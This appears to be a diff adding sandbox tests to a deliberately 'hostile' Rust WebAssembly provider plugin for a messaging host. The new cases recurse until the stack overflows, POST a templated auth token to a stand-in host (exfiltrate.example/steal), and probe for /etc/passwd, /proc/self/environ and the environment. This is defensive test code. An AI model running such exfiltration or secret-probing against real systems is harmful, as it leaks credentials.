@@ -6,10 +6,22 @@
 //! | `0666` | traps (panics) |
 //! | `0999` | loops forever without yielding |
 //! | `0777` | allocates until the memory cap stops it |
+//! | `0888` | recurses until the stack overflows |
+//! | `0555` | calls `http-send` on a host outside its allowed hosts |
+//! | `0444` | looks for secrets in its environment and files, then sends what it found as the body |
+//! | `0333` | returns an 8 MiB provider message id |
 //!
 //! and `handle-webhook` panics when the body contains `panic`.
 
 wit_bindgen::generate!({ path: "../../wit", world: "provider-plugin" });
+
+const PLUGIN_NAME: &str = "test-hostile";
+/// `HERALD_PLUGIN_VERSION` at build time overrides it, so a second,
+/// distinguishable version can be built for hot-reload tests.
+const PLUGIN_VERSION: &str = match option_env!("HERALD_PLUGIN_VERSION") {
+    Some(v) => v,
+    None => "1.0.0",
+};
 
 // The Twilio logic, compiled against this crate's own bindings.
 #[path = "../../twilio-sms/src/provider.rs"]
@@ -19,15 +31,16 @@ mod wire;
 
 use exports::herald::provider::provider::Guest;
 use herald::provider::types::{
-    Config, DeliveryUpdate, OutboundMessage, PluginManifest, SendError, SendReceipt, TemplateInfo,
-    WebhookError, WebhookOutcome, WebhookRequest,
+    Config, Content, DeliveryStatus, DeliveryUpdate, HttpAuth, HttpError, HttpRequest,
+    OutboundMessage, PluginManifest, Rejection, SendError, SendReceipt, TemplateInfo, WebhookError,
+    WebhookOutcome, WebhookRequest,
 };
 
 struct Hostile;
 
 impl Guest for Hostile {
     fn manifest() -> PluginManifest {
-        provider::manifest("test-hostile", "1.0.0")
+        provider::manifest(PLUGIN_NAME, PLUGIN_VERSION)
     }
 
     fn validate_config(config: Config) -> Result<(), String> {
@@ -39,6 +52,22 @@ impl Guest for Hostile {
             Some("0666") => panic!("hostile plugin: deliberate trap"),
             Some("0999") => spin_forever(),
             Some("0777") => exhaust_memory(),
+            Some("0888") => Ok(SendReceipt {
+                provider_message_id: recurse(1).to_string(),
+                status: DeliveryStatus::Sent,
+            }),
+            Some("0555") => call_forbidden_host(),
+            Some("0444") => {
+                let mut probed = message.clone();
+                if let Content::Text(text) = &mut probed.content {
+                    text.body = probe_ambient_secrets();
+                }
+                provider::send(&config, &probed)
+            }
+            Some("0333") => Ok(SendReceipt {
+                provider_message_id: "x".repeat(8 << 20),
+                status: DeliveryStatus::Sent,
+            }),
             _ => provider::send(&config, &message),
         }
     }
@@ -60,6 +89,49 @@ impl Guest for Hostile {
     fn list_templates(_config: Config) -> Result<Vec<TemplateInfo>, SendError> {
         Ok(Vec::new())
     }
+}
+
+/// Never returns: each frame is kept alive by the addition after the call.
+#[allow(unconditional_recursion)] // the point: overflow the stack
+fn recurse(depth: u64) -> u64 {
+    let mut frame = [depth; 64];
+    core::hint::black_box(&mut frame);
+    recurse(depth + 1) + frame[7]
+}
+
+fn call_forbidden_host() -> Result<SendReceipt, SendError> {
+    let request = HttpRequest {
+        method: "POST".into(),
+        url: "https://exfiltrate.example/steal".into(),
+        headers: Vec::new(),
+        body: b"token={{secret.auth-token}}".to_vec(),
+        auth: HttpAuth::None,
+        timeout_ms: None,
+    };
+    match herald::provider::host::http_send(&request) {
+        Ok(_) => Err(SendError::Rejected(Rejection {
+            code: "escaped".into(),
+            message: "the host let a request out to a forbidden host".into(),
+        })),
+        Err(HttpError::NotAllowed(why)) => Err(SendError::InvalidConfig(why)),
+        Err(other) => Err(SendError::Transient(format!("{other:?}"))),
+    }
+}
+
+/// What a plugin can find without the host's help: nothing.
+fn probe_ambient_secrets() -> String {
+    let env = std::env::vars().count();
+    let files = [
+        "/etc/passwd",
+        "/proc/self/environ",
+        "herald.db",
+        ".herald-cache",
+    ]
+    .iter()
+    .filter(|p| std::fs::metadata(p).is_ok())
+    .count();
+    let root = std::fs::read_dir("/").map(|d| d.count()).unwrap_or(0);
+    format!("ambient: env={env} files={files} root_entries={root}")
 }
 
 fn spin_forever() -> ! {
